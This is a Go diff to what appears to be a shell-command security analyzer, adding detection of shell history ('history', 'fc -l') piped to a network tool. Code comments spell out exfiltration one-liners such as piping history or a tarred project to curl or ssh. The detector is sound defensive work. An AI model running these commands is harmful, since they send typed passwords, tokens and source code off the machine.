@@ -1043,6 +1043,12 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 		if i > 0 && src == "secretvar" && network(name) {
 			a.secretPiped(secretVar, name, argv[1:], strings.Join(argv, " ")) // exfil.go (det70)
 		}
+		if i > 0 && src == "history" && network(name) {
+			// `history | curl -d @- URL`: the commands typed before, secrets typed on command
+			// lines with them (a -p password, an exported token); what searches it stays here
+			// (historySearch).
+			a.ask("exfil/history", "sends the shell history over the network", strings.Join(argv, " "), 0.85)
+		}
 		if i > 0 && src == "project" && network(name) {
 			// `tar czf - . | ssh HOST 'cat > s.tgz'`, `git bundle create - --all | curl -T -
 			// URL`: the project's source leaves the machine (exfil.go projectArchive).
@@ -1068,6 +1074,8 @@ func (a *analyzer) pipe(stages []*syntax.Stmt) {
 			src = "secrets"
 		case src == "" && a.projectArchive(name, argv[1:]):
 			src = "project"
+		case src == "" && (name == "history" || name == "fc" && hasFlag(argv[1:], "-l")):
+			src = "history"
 		case src == "" && (name == "cat" || name == "head" || name == "tail" || name == "base64" || name == "gzip") && slices.ContainsFunc(operands(argv[1:]), gitConfig.MatchString):
 			src = "gitconfig"
 			gitFile = operands(argv[1:])[slices.IndexFunc(operands(argv[1:]), gitConfig.MatchString)]
